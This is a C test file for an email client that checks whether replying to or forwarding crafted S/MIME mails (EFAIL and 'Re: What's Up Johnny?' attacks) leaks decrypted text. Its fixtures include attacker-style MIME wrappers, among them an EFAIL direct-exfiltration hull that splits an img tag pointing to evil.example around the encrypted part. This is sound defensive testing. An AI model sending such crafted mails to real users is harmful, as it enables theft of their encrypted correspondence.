/*
 * Mails that an attacker makes of somebody's encrypted text, so that whoever has the key sends it back in the clear:
 * "Re: What's Up Johnny?" (ACNS 2019) and EFAIL. The text is put beside others, into them, behind them, hidden or not.
 * However such a mail is answered, what leaves holds nothing that was decrypted of a part that is not the mail itself.
 */
#include <string.h>

#include "app/answering.h"
#include "app/outgoing.h"
#include "mime/mime.h"
#include "store/draft.h"
#include "support/keys.h"

#define CANARY "ZQCANARY4711QZ"
#define SECRET "Content-Type: text/html\r\n\r\n<p>" CANARY " <img src=\"cid:inner\"></p>\r\n"
#define HEADER "From: Mallory <mallory@example.net>\r\nTo: ada@example.org\r\nSubject: question\r\nDate: " LAB_DATE \
	"\r\nMessage-ID: <m@example.net>\r\nMIME-Version: 1.0\r\n"

static TempStore     temp;
static LabPerson    *ca, *mallory, *ada;
static Certificates *keys;
static int64_t       inbox;

static void make_people(void)
{
	ca = lab_person_new((LabWish){ .name = "Lab CA", .is_ca = true, .usage = "keyCertSign,cRLSign" });
	LabWish wish = { .name = "Mallory", .alternative = "email:mallory@example.net", .issuer = ca };

	mallory = lab_person_new(wish);
	wish.name = "Ada", wish.alternative = "email:ada@example.org";
	ada = lab_person_new(wish);
	temp_store_init(&temp);
	keys = keys_make(&temp, ca, ada);
	inbox = temp_store_folder(&temp, "inbox", FOLDER_INBOX);
}

/* ---- the stolen text, as a part ---- */

static char *replaced(char *text, const char *a, const char *b)
{
	g_auto(GStrv) pieces = g_strsplit(text, a, -1);

	g_free(text);
	return g_strjoinv(b, pieces);
}

static char *as_gcm(void)
{
	g_autoptr(GBytes) der = lab_encrypt(ada, EVP_aes_256_gcm(), false, SECRET);

	return lab_opaque("authEnveloped-data", der);
}
static char *as_cbc(void)
{
	g_autoptr(GBytes) der = lab_encrypt(ada, EVP_aes_128_cbc(), false, SECRET);

	return replaced(lab_opaque("enveloped-data", der), "application/pkcs7-mime", "application/x-pkcs7-mime");
}
static char *as_a_file(void)
{
	g_autoptr(GBytes) der = lab_encrypt(ada, EVP_aes_256_cbc(), false, SECRET);
	g_autofree char *base64 = lab_base64(der);

	return g_strconcat("Content-Type: application/octet-stream; name=\"smime.p7m\"\r\nContent-Disposition: inline; filename=\"smime.p7m\"\r\n"
	                   "Content-ID: <c>\r\nContent-Transfer-Encoding: base64\r\n\r\n", base64, "\r\n", NULL);
}

/* ---- the mails around it: "@" stands for the part ---- */

static const struct { const char *name, *text; } hulls[] = {
	{ "below a text", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\n@\r\n--o--\r\n" },
	{ "above a text", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n@\r\n--o\r\n\r\nlunch?\r\n--o--\r\n" },
	{ "alone in a multipart", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n@\r\n--o--\r\n" },
	{ "between two halves of a tag", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n"
	  "<img src=\"https://evil.example/?\r\n--o\r\n@\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n" },
	{ "hidden by CSS", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\nlunch?<div style=\"display:none\">"
	  "\r\n--o\r\n@\r\n--o\r\nContent-Type: text/html\r\n\r\n</div>\r\n--o--\r\n" },
	{ "an alternative", "Content-Type: multipart/alternative; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\n@\r\n--o--\r\n" },
	{ "related, shown by its id", "Content-Type: multipart/related; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n"
	  "lunch?<img src=\"cid:c\"><iframe src=\"cid:c\"></iframe>\r\n--o\r\n@\r\n--o--\r\n" },
	{ "an attached mail", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n"
	  "From: grace@example.org\r\nMIME-Version: 1.0\r\n@\r\n--o--\r\n" },
	{ "a mail that is a mail", "Content-Type: message/rfc822\r\n\r\nFrom: grace@example.org\r\nMIME-Version: 1.0\r\n@" },
	{ "a digest", "Content-Type: multipart/digest; boundary=o\r\n\r\n--o\r\n\r\nFrom: grace@example.org\r\nMIME-Version: 1.0\r\n@\r\n--o--\r\n" },
	{ "two multiparts deep", "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n"
	  "--i\r\n@\r\n--i--\r\n\r\n--o--\r\n" },
	{ "a broken signature", "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=o\r\n\r\n--o\r\n@\r\n--o\r\n\r\nlunch?\r\n--o--\r\n" },
	{ "a signature of three parts", "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\n@\r\n"
	  "--o\r\nContent-Type: application/pkcs7-signature\r\n\r\nx\r\n--o--\r\n" },
	{ "a report", "Content-Type: multipart/report; report-type=delivery-status; boundary=o\r\n\r\n--o\r\n\r\nlunch?\r\n--o\r\n@\r\n--o--\r\n" },
	{ "a type said twice", "Content-Type: text/plain\r\n@" },
};

static char *sealed(const char *part)
{
	g_autoptr(GBytes) der = lab_sign((LabSigning){ .signer = mallory, .flags = CMS_DETACHED }, part);

	return lab_clear(part, der);
}
static char *sealed_opaque(const char *part)
{
	g_autoptr(GBytes) der = lab_sign((LabSigning){ .signer = mallory }, part);

	return lab_opaque("signed-data", der);
}
/* To Ada as well: what she may read is not what else was put in. */
static char *encrypted_again(const char *part)
{
	g_autoptr(GBytes) der = lab_encrypt(ada, EVP_aes_256_gcm(), false, part);

	return lab_opaque("authEnveloped-data", der);
}
static char *as_it_is(const char *part) { return g_strdup(part); }

typedef char *(*Around)(const char *part);

/* ---- what leaves ---- */

static bool holds(GBytes *bytes, const char *word)
{
	gsize len;
	const char *data = g_bytes_get_data(bytes, &len);

	return data && memmem(data, len, word, strlen(word));
}

/* Also where it is encoded: each part is looked into. */
static bool leaks(GBytes *mail)
{
	g_autoptr(MimeMessage) mime = mime_read(mail);
	bool is_found = holds(mail, CANARY);

	for (guint i = 0; i < mime->parts->len; i++) {
		g_autoptr(GBytes) content = mime_part_content(mime, (int)i, NULL);
		is_found |= content && holds(content, CANARY);
	}
	return is_found;
}

static bool draft_leaks(const Draft *draft)
{
	g_autofree char *text = draft_to_text(draft);
	bool is_found = strstr(text, CANARY) != NULL;

	for (guint i = 0; i < draft->parts->len; i++) {
		const DraftPart *part = draft->parts->pdata[i];
		is_found |= part->bytes && leaks(part->bytes);
	}
	return is_found;
}

static int64_t receive(const char *mail)
{
	static int count;
	g_autofree char *name = g_strdup_printf("m%d", count++);
	Message *message = temp_message(name, LAB_NOW_MS, 0);

	g_clear_pointer(&message->body, g_bytes_unref);
	message->body = g_bytes_new(mail, strlen(mail));
	message->body_kind = BODY_MIME;
	message->from = (g_free(message->from), g_strdup("Mallory <mallory@example.net>"));
	int64_t id = temp_store_add(&temp, inbox, message);
	g_autoptr(GBytes) source = g_bytes_new(mail, strlen(mail));
	g_assert_true(store_write_mime(temp.writer, id, source, NULL));
	return id;
}

static Draft *answer(int64_t id, DraftKind kind)
{
	AnsweringSelf self = { .account = "work", .address = "ada@example.org", .is_decrypting = true, .certificates = keys };
	g_autoptr(GError) err = NULL;
	Draft *draft = answering_begin(temp.reader, &self, &(AnsweringWish){ id, kind, "today" }, &err);

	g_assert_no_error(err);
	g_free(draft->to);
	draft->to = g_strdup("mallory@example.net");
	g_free(draft->message_id);
	draft->message_id = g_strdup("<answer@example.org>");
	return draft;
}

/* As the engine does when it is due. NULL: it does not leave. */
static GBytes *try_to_send(Draft *draft)
{
	g_autoptr(GError) err = NULL;
	g_autoptr(StoreDraft) row = NULL;
	g_autoptr(Draft) kept = NULL;
	g_auto(StoreMail) mail = { 0 };
	int64_t id = 0;

	outgoing_gather(draft, temp.reader, &err);
	g_assert_no_error(err);
	store_save_draft(temp.writer, temp.account_id, draft, &id, &err);
	g_assert_no_error(err);
	store_load_draft(temp.reader, id, &kept, &row, &err);
	g_assert_no_error(err);
	return outgoing_compose(temp.reader, row, true, &mail, NULL) ? g_bytes_ref(mail.mime) : NULL;
}

static GBytes *send(Draft *draft)
{
	GBytes *bytes = try_to_send(draft);

	g_assert_nonnull(bytes);
	return bytes;
}

static const DraftKind modes[] = { DRAFT_REPLY, DRAFT_REPLY_ALL, DRAFT_FORWARD, DRAFT_FORWARD_ATTACHED, DRAFT_RESEND, DRAFT_EDIT };

static void test_parts_stay_closed(void)
{
	char *(*const texts[])(void) = { as_gcm, as_cbc, as_a_file };
	static const Around around[] = { as_it_is, sealed, sealed_opaque, encrypted_again };
	guint mails = 0;

	for (size_t i = 0; i < G_N_ELEMENTS(hulls) * G_N_ELEMENTS(texts); i++) {
		g_autofree char *text = texts[i % 3]();
		g_autofree char *part = replaced(g_strdup(hulls[i / 3].text), "@", text);
		/* Each hull by itself, and in turn in one of the others. */
		for (size_t j = 0; j < 2; j++, mails++) {
			g_autofree char *body = around[j ? 1 + i % 3 : 0](part);
			g_autofree char *mail = g_strconcat(HEADER, body, NULL);
			int64_t id = receive(mail);
			g_test_message("%s, form %d, around %d", hulls[i / 3].name, (int)(i % 3), j ? 1 + (int)(i % 3) : 0);
			for (size_t k = 0; k < G_N_ELEMENTS(modes); k++) {
				g_autoptr(Draft) draft = answer(id, modes[k]);
				g_assert_false(draft_leaks(draft));
				/* What is to be encrypted has a test of its own, and no certificate here. */
				if (draft_is_secret(draft))
					continue;
				g_autoptr(GBytes) bytes = send(draft);
				g_assert_false(leaks(bytes));
			}
		}
	}
	g_assert_cmpuint(mails, >=, 30);
}

/* The other way round: of a mail that is encrypted itself the text is quoted, and the draft says that it must not
 * leave in clear. Only what goes along closed may. */
static void test_what_is_quoted_must_be_encrypted(void)
{
	static const struct { const char *why; bool is_signed; } rows[] = { { "encrypted", false }, { "signed around it", true } };

	for (size_t i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_autofree char *text = as_gcm();
		g_autofree char *body = rows[i].is_signed ? sealed(text) : g_strdup(text);
		g_autofree char *mail = g_strconcat(HEADER, body, NULL);
		int64_t id = receive(mail);

		g_test_message("%s", rows[i].why);
		for (size_t k = 0; k < G_N_ELEMENTS(modes); k++) {
			bool is_closed = modes[k] == DRAFT_FORWARD_ATTACHED;
			g_autoptr(Draft) draft = answer(id, modes[k]);
			g_autofree char *kept_text = draft_to_text(draft);
			g_autoptr(Draft) kept = draft_from_text(kept_text, NULL);
			g_assert_cmpint(draft_leaks(draft), ==, !is_closed);
			g_assert_cmpint(kept->encryption, ==, is_closed ? ENCRYPTION_NO : ENCRYPTION_YES);
			g_assert_cmpint(kept->encryption_by, ==, is_closed ? DECIDED_BY_SETTINGS : DECIDED_BY_ORIGINAL);
			/* Mallory has no certificate here, so nobody could be sure who reads it. */
			g_autoptr(GBytes) bytes = try_to_send(draft);
			g_assert_cmpint(bytes != NULL, ==, is_closed);
			g_assert_false(bytes && leaks(bytes));
		}
	}
}

/* Without the key nothing of it is known, and still it is not answered in the clear. */
static void test_closed_ones(void)
{
	g_autofree char *text = as_gcm();
	g_autofree char *mail = g_strconcat(HEADER, text, NULL);
	int64_t id = receive(mail);
	AnsweringSelf self = { .account = "work", .address = "ada@example.org" };
	g_autoptr(Draft) draft = answering_begin(temp.reader, &self, &(AnsweringWish){ id, DRAFT_REPLY, NULL }, NULL);

	g_assert_false(draft_leaks(draft));
	g_assert_cmpint(draft->encryption, ==, ENCRYPTION_YES);
}

/* A signed mail is no secret: it is answered with its text, and passed on with its files. */
static void test_signed_ones(void)
{
	static const Around around[] = { sealed, sealed_opaque };

	for (size_t i = 0; i < G_N_ELEMENTS(around); i++) {
		g_autofree char *body = around[i]("Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>Hello <b>Ada</b>\r\n--x\r\n"
		                                  "Content-Type: text/csv\r\nContent-Disposition: attachment; filename=plan.csv\r\n\r\na,b\r\n--x--\r\n");
		g_autofree char *mail = g_strconcat(HEADER, body, NULL);
		int64_t id = receive(mail);
		g_autoptr(Draft) reply = answer(id, DRAFT_REPLY), forward = answer(id, DRAFT_FORWARD);
		g_autoptr(GBytes) answered = send(reply), passed_on = send(forward);

		g_assert_cmpint(reply->encryption, ==, ENCRYPTION_NO);
		g_assert_true(holds(answered, "Hello *Ada*") || holds(answered, "Hello Ada"));
		g_assert_true(holds(answered, "<b>Ada</b>"));
		g_assert_cmpuint(forward->parts->len, ==, 1);
		g_assert_true(holds(passed_on, "plan.csv"));
		g_assert_false(holds(passed_on, "smime.p7"));
	}
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	make_people();
	g_test_add_func("/oracle/parts-stay-closed", test_parts_stay_closed);
	g_test_add_func("/oracle/what-is-quoted-must-be-encrypted", test_what_is_quoted_must_be_encrypted);
	g_test_add_func("/oracle/closed-ones", test_closed_ones);
	g_test_add_func("/oracle/signed-ones", test_signed_ones);
	int failed = g_test_run();
	LabPerson *all[] = { ca, mallory, ada };
	for (size_t i = 0; i < G_N_ELEMENTS(all); i++)
		lab_person_free(all[i]);
	certificates_unref(keys);
	temp_store_clear(&temp);
	return failed;
}
